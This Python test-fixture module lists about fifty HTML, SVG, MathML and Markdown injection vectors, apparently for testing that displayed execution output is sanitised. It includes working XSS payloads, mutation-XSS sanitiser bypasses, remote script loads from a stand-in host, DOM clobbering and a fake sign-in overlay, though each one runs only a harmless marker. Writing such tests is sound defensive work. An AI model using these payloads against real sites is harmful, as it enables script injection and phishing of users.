"""Attack vectors that an execution's output may contain."""

FOREIGN = "foreign.invalid"
"""The host from which all vectors load."""
NUMBER = "4711"
SCRIPT = f"console.info({NUMBER})"
"""The script that a vector runs if it can. It needs no quotes, so that it fits everywhere."""


def traced(vector: str, number: int) -> str:
    """The vector with a script and a foreign host that carry its number, to identify it."""
    return vector.replace(NUMBER, f"{NUMBER}{number:03}").replace(FOREIGN, f"v{number}.{FOREIGN}")


IMAGE = f"<img src=x onerror={SCRIPT}>"

VECTORS = {
    "script": f"<script>{SCRIPT}</script>",
    "foreign script": f'<script src="https://{FOREIGN}/a.js"></script>',
    "image handler": f'<img src="https://{FOREIGN}/a.png" onerror="{SCRIPT}">',
    "svg handler": f'<svg onload="{SCRIPT}"><circle r="9"/></svg>',
    "svg script": f'<svg><script href="data:text/javascript,{SCRIPT}"></script></svg>',
    "svg animation": f'<svg><a xlink:href="javascript:{SCRIPT}"><animate attributeName="href" '
    f'values="javascript:{SCRIPT}" begin="0s"/><text y="20">x</text></a></svg>',
    "mathml mutation": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={SCRIPT}&gt;">',
    "noscript mutation": f'<noscript><p title="</noscript>{IMAGE}">',
    "style": f"<style>@import 'https://{FOREIGN}/a.css'; body{{background:url("
    f"https://{FOREIGN}/b.png)}}</style>",
    "style attribute": f'<div style="background:url(https://{FOREIGN}/c.png)">x</div>',
    "frame": f'<iframe src="https://{FOREIGN}/"></iframe>',
    "frame with a document": f'<iframe srcdoc="<script>parent.{SCRIPT}</script>"></iframe>',
    "object": f'<object data="https://{FOREIGN}/a.html"></object>'
    f'<embed src="https://{FOREIGN}/b.svg" type="image/svg+xml">',
    "form": f'<form action="https://{FOREIGN}/"><input autofocus onfocus="{SCRIPT}" name="p">'
    '<button formaction="javascript:1">Sign in</button></form>',
    "javascript link": f'<a href="jav&#x09;ascript:{SCRIPT}" autofocus onfocus="{SCRIPT}">x</a>'
    f"\n\n[y](javascript:{SCRIPT}) [z](data:text/html,<script>{SCRIPT}</script>)",
    "base and refresh": f'<base href="https://{FOREIGN}/"><meta http-equiv="refresh" '
    f'content="0;url=https://{FOREIGN}/"><link rel="stylesheet" href="https://{FOREIGN}/d.css">',
    "media": f'<video src="https://{FOREIGN}/a.mp4" autoplay onloadstart="{SCRIPT}"></video>'
    f'<audio src="https://{FOREIGN}/a.mp3" autoplay onerror="{SCRIPT}"></audio>'
    f'<details open ontoggle="{SCRIPT}">x</details>',
    "markdown": f"![x](https://{FOREIGN}/m.png)\n\n![][r]\n\n[r]: https://{FOREIGN}/n.png\n\n"
    f'<x onclick={SCRIPT} id=logout name=cookie class="menu">y</x> '
    f'<p id="attributes" onpointerenter="{SCRIPT}">z',
    # Further vectors. First, markup that parsers interpret differently.
    "form mutation": "<form><math><mtext></form><form><mglyph><style></math>"
    f"<img src onerror={SCRIPT}>",
    "option mutation": "<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style>"
    f"<a title=\"</style><img src onerror='{SCRIPT}'>\">",
    "svg style mutation": f'<svg></p><style><a id="</style>{IMAGE}">',
    "select mutation": f"<select><style></select>{IMAGE}</style>",
    "annotation": f'<math><annotation-xml encoding="text/html">{IMAGE}</annotation-xml></math>',
    "foreign object": f"<svg><foreignObject>{IMAGE}</foreignObject></svg>",
    "comments": f"<!-->{IMAGE}--> <!-- --!>{IMAGE} <![CDATA[>{IMAGE}]]> <?xml >{IMAGE}",
    "raw text": f'<xmp><p title="</xmp>{IMAGE}"></xmp>'
    f'<textarea><p title="</textarea>{IMAGE}"></textarea>',
    "title": f'<title><p title="</title>{IMAGE}"></title>',
    "template": f'<div><template shadowrootmode="open">{IMAGE}<slot></slot></template></div>',
    "dangling quote": f"<img src='https://{FOREIGN}/dangling?",
    # Scripts that run by themselves.
    "body handler": f'<body onload="{SCRIPT}" onpageshow="{SCRIPT}" '
    f'background="https://{FOREIGN}/body.png">',
    "marquee": f'<marquee onstart="{SCRIPT}">x</marquee>',
    "animation": "<style>@keyframes x{}</style>"
    f'<p style="animation-name:x" onanimationstart="{SCRIPT}">x</p>',
    "svg timing": f'<svg><animate onbegin="{SCRIPT}" attributeName="x" dur="1s"/>'
    f'<set onbegin="{SCRIPT}" attributeName="x"/></svg>',
    "content visibility": '<p style="content-visibility:auto" '
    f'oncontentvisibilityautostatechange="{SCRIPT}">x</p>',
    "module": f'<script type="module" src="https://{FOREIGN}/module.js"></script>'
    f'<script type="module">{SCRIPT}</script>',
    "javascript frame": f'<iframe src="\x01java\nscript:{SCRIPT}"></iframe>'
    f'<iframe src="javascript&colon;{SCRIPT}"></iframe><a href="vbscript:{SCRIPT}">x</a>',
    "data frame": f'<iframe src="data:text/html,<script>{SCRIPT}</script>"></iframe>'
    f'<object data="data:text/html,<script>{SCRIPT}</script>"></object>',
    "markdown links": f'<javascript:{SCRIPT}> [a](<java\tscript:{SCRIPT}> "t")\n\n'
    f'[b]: javascript:{SCRIPT}\n\n[b] ![c" onerror="{SCRIPT}](x "d\' onload={SCRIPT}")',
    # Resources that are loaded.
    "image sets": f'<img srcset="https://{FOREIGN}/s.png 1x"><picture><source '
    f'srcset="https://{FOREIGN}/p.png"><img></picture><input type="image" '
    f'src="https://{FOREIGN}/i.png"><video poster="https://{FOREIGN}/v.png"></video>',
    "background": f'<table background="https://{FOREIGN}/t.png"><tr>'
    f'<td background="https://{FOREIGN}/u.png">x</td></tr></table>',
    "svg use": f'<svg><use href="https://{FOREIGN}/u.svg#a"/><image href="https://{FOREIGN}/i.png"'
    f' width="9" height="9"/><feImage href="https://{FOREIGN}/f.png"/></svg>',
    "link": f'<link rel="prefetch" href="https://{FOREIGN}/p"><link rel="preload" as="image" '
    f'href="https://{FOREIGN}/q"><link rel="modulepreload" href="https://{FOREIGN}/r">'
    f'<link rel="icon" href="https://{FOREIGN}/s.ico"><link rel="dns-prefetch" '
    f'href="//{FOREIGN}">',
    "speculation": '<script type="speculationrules">{"prefetch":[{"source":"list",'
    f'"urls":["https://{FOREIGN}/rules"],"eagerness":"immediate"}}]}}</script>',
    # Targets to which a person or one of our scripts is led.
    "ping and target": f'<a href="https://{FOREIGN}/" ping="https://{FOREIGN}/ping" '
    'target="_blank" rel="opener">x</a>',
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">'
    '<meta http-equiv="Set-Cookie" content="session=1">',
    "overlay": '<dialog open style="position:fixed;inset:0;width:200vw;height:99999px;'
    'z-index:2147483647;background:#fff" class="toast dialog" popover="manual">Sign in</dialog>',
    "clobbering": '<form id="main" name="body"><input name="dataset"><input name="children">'
    '<input name="querySelector"></form><img name="getElementById"><a id="htmx"></a>'
    '<a id="htmx" name="trigger"></a><div id="execution" data-live data-parts="body"></div>'
    '<dialog id="shortcuts"></dialog><div id="files-of" data-copy="x" data-dialog="files"></div>',
    "attributes of htmx": '<p hx-get="/hostile" hx-trigger="load" hx-swap="outerHTML">x</p>'
    f'<p data-hx-get="/hostile" data-hx-trigger="load" hx-on::load="{SCRIPT}">y</p>',
    "directions": "\u200f<bdo dir=rtl>abc</bdo> \u2066\u202d \u2069\u202etxt.exe",
    "encoded": f"&lt;script&gt;{SCRIPT}&lt;/script&gt; \\u003cscript\\u003e{SCRIPT} "
    f"+ADw-script+AD4-{SCRIPT} \uff1cscript\uff1e{SCRIPT} %3Cscript%3E{SCRIPT}",
}
"""Each is tried as Markdown, HTML and text."""
